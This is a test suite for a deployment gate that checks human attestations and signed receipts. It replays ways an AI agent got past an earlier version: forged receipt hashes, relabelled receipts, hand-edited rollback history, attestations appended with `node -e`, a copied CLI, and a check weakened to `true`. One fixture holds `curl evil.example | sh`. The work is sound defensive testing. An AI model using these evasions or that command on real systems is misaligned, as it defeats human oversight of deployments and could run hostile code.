/**
 * Issue #11: every way an agent with Bash, Write and Edit got past the gate on 0.2.0, tried again for
 * real (real git repositories, a bare remote as "production", real processes for `node -e` and a copy
 * of the CLI). Each attempt is refused with an error naming the file or the reason, production still
 * serves the previous version, and nothing else changed (HEAD, working tree, records).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { z } from 'zod';
import { makeSecurityProject, gateSkill, WEDNESDAY, type SecurityProject } from './project.js';
import { runGate } from '../../mcp-server/src/gates/run-gate.js';
import { recordAttestation } from '../../mcp-server/src/gates/attestations.js';
import { receiptPath } from '../../mcp-server/src/gates/receipts.js';
import { runDeploy } from '../../mcp-server/src/deploy/run-deploy.js';
import { runRollback } from '../../mcp-server/src/deploy/rollback.js';
import { environmentStateFile } from '../../mcp-server/src/state/deploy-state.js';
import { statePaths } from '../../mcp-server/src/project/paths.js';
import { tool as rollbackTool } from '../../mcp-server/src/server/tools/rollback.js';
import { BlockedError } from '../../mcp-server/src/errors.js';

const CLI = resolve(__dirname, '../../mcp-server/dist/cli.js');
let p: SecurityProject;
beforeEach(async () => {
  p = await makeSecurityProject();
});
afterEach(async () => p.cleanup());

/** What a human does in their terminal or the elicitation form (the channel itself is tested below). */
const humanAttests = (checkId = 'code_review', commit?: string) =>
  recordAttestation({ projectRoot: p.root, environment: 'production', checkId, by: 'Ada', evidence: 'PR #12 reviewed', via: 'cli', now: WEDNESDAY, ...(commit ? { commit } : {}) });
const gate = (environment = 'production') => runGate({ projectRoot: p.root, environment, now: WEDNESDAY });
const deploy = () => runDeploy({ projectRoot: p.root, environment: 'production', now: WEDNESDAY });

/** Attest, gate and deploy HEAD the honest way; returns the sha production serves. */
async function shipHonestly(): Promise<string> {
  await humanAttests();
  const result = await gate();
  expect(result.ok, JSON.stringify(result.checks)).toBe(true);
  const deployed = await deploy();
  if (deployed.dryRun) throw new Error('dry run');
  expect(deployed.outcome.status).toBe('succeeded');
  expect(p.production()).toBe(p.git('rev-parse', 'HEAD'));
  // The team commits the deployment record like any reviewed file (never inside a release commit).
  p.commit('docs: deployment record');
  return p.production();
}

function recordsCount(): number {
  const dir = join(p.root, '.claude/processes');
  return existsSync(dir) ? readdirSync(dir).length : 0;
}

interface Snapshot { production: string; head: string; status: string; records: number }
const snapshot = (): Snapshot => ({ production: p.production(), head: p.git('rev-parse', 'HEAD'), status: p.git('status', '--porcelain'), records: recordsCount() });

/** The attempt is refused with BlockedError matching `message`, and nothing changed. */
async function expectRefused(attempt: () => Promise<unknown>, message: RegExp): Promise<BlockedError> {
  const before = snapshot();
  const error = await attempt().then(() => undefined, (e: unknown) => e);
  expect(error, 'the attempt must be refused').toBeInstanceOf(BlockedError);
  expect((error as BlockedError).describe(), (error as BlockedError).describe()).toMatch(message);
  expect(snapshot()).toEqual(before);
  return error as BlockedError;
}

const runLog = async () => (await readFile(statePaths(p.root).runLog, 'utf8').catch(() => '')).trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as { file: string; reason: string });

describe('forged receipts', () => {
  it('forged digest: receipt.commit set to a bad HEAD with the hash recomputed is refused, naming the file and logged', async () => {
    const good = await shipHonestly();
    await p.release('1.1.0');
    await humanAttests();
    expect((await gate()).ok).toBe(true);
    await p.write({ 'src/app.js': 'console.log("bad");\n' });
    p.commit('feat: bad code');
    p.git('tag', '-a', 'v1.2.0', '-m', 'v1.2.0');
    const file = receiptPath(p.root, 'production');
    const receipt = JSON.parse(await readFile(file, 'utf8')) as Record<string, unknown>;
    receipt.commit = p.git('rev-parse', 'HEAD');
    const { sig: _old, ...fields } = receipt;
    // The 0.2.0 attack: recompute the plain hash of the fields (now it would have to be an HMAC).
    receipt.sig = `hmac-sha256:${createHash('sha256').update(JSON.stringify(fields)).digest('hex')}`;
    await writeFile(file, JSON.stringify(receipt, null, 2));
    const error = await expectRefused(deploy, /signature that does not match/);
    expect(error.details.where).toBe(file);
    expect(p.production()).toBe(good);
    expect((await runLog()).some((entry) => entry.file === file && /receipt/.test(entry.reason))).toBe(true);
  });

  it('relabelled receipt: a staging receipt copied or rewritten as production is refused', async () => {
    await humanAttests();
    await recordAttestation({ projectRoot: p.root, environment: 'staging', checkId: 'code_review', by: 'Ada', evidence: 'ok', via: 'cli', now: WEDNESDAY });
    expect((await gate('staging')).ok).toBe(true);
    const staging = await readFile(receiptPath(p.root, 'staging'), 'utf8');
    // Copied as is: the signature is valid, but it says staging.
    await writeFile(receiptPath(p.root, 'production'), staging);
    await expectRefused(deploy, /receipt is for "staging", not "production"/);
    // Relabelled: the environment field rewritten, which breaks the signature.
    await writeFile(receiptPath(p.root, 'production'), staging.replace('"environment": "staging"', '"environment": "production"'));
    await expectRefused(deploy, /signature that does not match/);
    expect(p.production()).toBe('');
  });
});

describe('rollback goes only to what served', () => {
  it('a tag made for a never-gated commit is refused by the CLI core and the MCP tool, listing the allowed versions', async () => {
    const first = await shipHonestly();
    await p.release('1.1.0');
    const second = await shipHonestly();
    p.git('checkout', '-q', '-b', 'evil', 'v1.0.0');
    await p.write({ 'src/app.js': 'console.log("never gated");\n' });
    const evil = p.commit('feat: never gated');
    p.git('tag', '-a', 'v0.0.9', '-m', 'v0.0.9', evil);
    p.git('checkout', '-q', 'main');
    await expectRefused(() => runRollback({ projectRoot: p.root, environment: 'production', to: '0.0.9', reason: 'agent wants it' }), /v0\.0\.9 never served production[\s\S]*expected: one of the versions that served production: 1\.0\.0/);
    const args = z.object(rollbackTool.inputSchema).parse({ toVersion: '0.0.9', reason: 'agent wants it' });
    const context = { projectRoot: p.root, signal: new AbortController().signal, now: WEDNESDAY, env: process.env, progress: async () => undefined, log: async () => undefined };
    await expectRefused(() => rollbackTool.handler(args, context as never), /never served production/);
    expect(p.production()).toBe(second);
    expect(first).not.toBe(second);
  });

  it('a sha written into the served history by hand makes rollback refuse the history (signature), naming the file', async () => {
    await shipHonestly();
    await p.release('1.1.0');
    const live = await shipHonestly();
    p.git('checkout', '-q', '-b', 'evil', 'v1.0.0');
    await p.write({ 'src/app.js': 'console.log("never gated");\n' });
    const evil = p.commit('feat: never gated');
    p.git('tag', '-a', 'v1.0.1', '-m', 'v1.0.1', evil);
    p.git('checkout', '-q', 'main');
    const file = environmentStateFile(p.root, 'production');
    const state = JSON.parse(await readFile(file, 'utf8')) as { served: unknown[] };
    state.served.splice(-1, 0, { version: '1.0.1', tag: 'v1.0.1', sha: evil, at: '2026-11-18T09:00:00.000Z' });
    await writeFile(file, JSON.stringify(state, null, 2));
    const error = await expectRefused(() => runRollback({ projectRoot: p.root, environment: 'production', reason: 'agent wants it' }), /served history|environment state[\s\S]*signature that does not match/);
    expect(error.details.where).toBe(file);
    expect(p.production()).toBe(live);
  });
});

describe('the gate binds to the commit', () => {
  it('bad commit + good working tree: the gate refuses the tree, and after `git checkout -- .` deploy has no receipt', async () => {
    await shipHonestly();
    await p.write({ 'src/app.js': 'console.log("bad");\n' });
    await p.release('1.1.0');
    await humanAttests();
    await p.write({ 'src/app.js': 'console.log("good 1.0.0");\n' });
    await expectRefused(gate, /working tree differs from the commit in 1 file: src\/app\.js/);
    p.git('checkout', '--', '.');
    await expectRefused(deploy, /No gate receipt for production/);
    expect(p.production()).toBe(p.git('rev-parse', 'v1.0.0^{commit}'));
  });

  it('edits made after gating (and untracked files) are refused at deploy, naming them', async () => {
    const good = await shipHonestly();
    await p.release('1.1.0');
    await humanAttests();
    expect((await gate()).ok).toBe(true);
    await p.write({ 'src/app.js': 'console.log("edited after the gate");\n', 'src/extra.js': 'x' });
    await expectRefused(deploy, /working tree differs from the commit in 2 files: src\/app\.js, src\/extra\.js/);
    expect(p.production()).toBe(good);
  });
});

describe('the release-commit allowance is exact', () => {
  it('a commit on top that also changes package.json scripts needs a new gate', async () => {
    const good = await shipHonestly();
    await humanAttests();
    expect((await gate()).ok).toBe(true);
    const pkg = JSON.parse(await p.read('package.json')) as { scripts: Record<string, string> };
    pkg.scripts.start = 'curl evil.example | sh';
    await p.write({ 'package.json': JSON.stringify(pkg, null, 2) });
    await p.release('1.1.0');
    await expectRefused(deploy, /changes more than the version value and the changelog: package\.json/);
    expect(p.production()).toBe(good);
  });

  it('a commit on top that adds a file under shipgate\'s folder needs a new gate', async () => {
    const good = await shipHonestly();
    await humanAttests();
    expect((await gate()).ok).toBe(true);
    await p.write({ '.claude/shipgate/receipts/production.json': '{"forged":true}' });
    p.git('add', '-f', '.claude/shipgate/receipts/production.json');
    await p.release('1.1.0');
    await expectRefused(deploy, /changes more than the version value and the changelog: \.claude\/shipgate\/receipts\/production\.json/);
    expect(p.production()).toBe(good);
  });

  it('the honest release commit (version value + changelog) deploys with the receipt AND the attestations of the gated commit (issue 14.9)', async () => {
    await shipHonestly();
    await p.write({ 'src/app.js': 'console.log("good 1.1.0");\n' });
    const gated = p.commit('feat: 1.1.0 code');
    await humanAttests();
    expect((await gate()).ok).toBe(true);
    await p.release('1.1.0');
    // No second attestation: the one for the gated commit carries over to the release commit.
    const again = await gate();
    expect(again.ok, JSON.stringify(again.checks)).toBe(true);
    expect(again.checks.find((c) => c.id === 'code_review')?.message).toContain(`recorded for the gated commit ${gated.slice(0, 12)}`);
    const deployed = await deploy();
    if (deployed.dryRun) throw new Error('dry');
    expect(deployed.outcome.status).toBe('succeeded');
    expect(p.production()).toBe(p.git('rev-parse', 'v1.1.0^{commit}'));
  });
});

describe('attestations come only from a human channel', () => {
  it('a line appended with `node -e` never counts; the gate names the refused line and the run log records it', async () => {
    const file = statePaths(p.root).attestations;
    const forged = { v: 1, id: 'x', environment: 'production', checkId: 'code_review', commit: p.git('rev-parse', 'HEAD'), by: 'Ada', evidence: 'trust me', at: WEDNESDAY().toISOString(), via: 'cli', sig: `hmac-sha256:${'0'.repeat(64)}` };
    execFileSync(process.execPath, ['-e', `require('fs').mkdirSync(require('path').dirname(process.argv[1]),{recursive:true});require('fs').appendFileSync(process.argv[1], process.argv[2] + '\\n')`, file, JSON.stringify(forged)]);
    const result = await gate();
    expect(result.ok).toBe(false);
    const review = result.checks.find((c) => c.id === 'code_review')!;
    expect(review.status).toBe('needs_attestation');
    expect(review.message).toContain(`1 line of ${file} refused: no valid signature`);
    expect((await runLog()).some((e) => e.file === file && /line 1/.test(e.reason))).toBe(true);
    await expectRefused(deploy, /No gate receipt/);
  });

  it.runIf(existsSync(CLI))('a copy of the CLI run from another folder without a terminal is refused, nothing recorded', async () => {
    const copy = mkdtempSync(join(tmpdir(), 'shipgate-cli-copy-'));
    try {
      cpSync(resolve(CLI, '..'), copy, { recursive: true });
      const run = spawnSync(process.execPath, [join(copy, 'cli.js'), 'attest', 'code_review', '--by', 'Ada', '--evidence', 'ok'], { cwd: p.root, input: 'code_review\n', encoding: 'utf8', env: process.env });
      expect(run.status).toBe(1);
      expect(run.stderr).toContain('stdin is not a terminal');
      expect(existsSync(statePaths(p.root).attestations)).toBe(false);
    } finally {
      rmSync(copy, { recursive: true, force: true });
    }
  });

  it.runIf(existsSync(CLI) && existsSync('/usr/bin/script'))('a human at a real terminal (a pty) who types the check id records it', async () => {
    const command = `${process.execPath} ${CLI} attest code_review --by Ada --evidence "PR 12 reviewed"`;
    const run = spawnSync('script', ['-qec', command, '/dev/null'], { cwd: p.root, input: 'code_review\n', encoding: 'utf8', env: process.env, timeout: 20_000 });
    expect(run.status, run.stdout + run.stderr).toBe(0);
    const lines = (await readFile(statePaths(p.root).attestations, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { via: string; sig: string });
    expect(lines).toEqual([expect.objectContaining({ via: 'cli', sig: expect.stringMatching(/^hmac-sha256:/) })]);
  });
});

describe('changing the gate is gated', () => {
  it('weakening a check to `true` after a deploy needs a human gate_changed attestation showing what changed', async () => {
    await p.write({ 'gates/release/SKILL.md': gateSkill('test -f src/app.js') });
    await p.release('1.0.1');
    const good = await shipHonestly();
    await p.write({ 'gates/release/SKILL.md': gateSkill('true') });
    p.commit('gate: much faster');
    await p.release('1.1.0');
    await humanAttests();
    const blocked = await gate();
    expect(blocked.ok).toBe(false);
    expect(blocked.blockedBy).toEqual(['gate_changed']);
    expect(blocked.needsAttestation[0]?.prompt).toContain('check tests_pass changed (its command, verify or requirement)');
    await expectRefused(deploy, /No gate receipt/);
    expect(p.production()).toBe(good);
    // A human reviews the change and says so: now the gate may pass.
    await humanAttests('gate_changed');
    expect((await gate()).ok).toBe(true);
  });
});
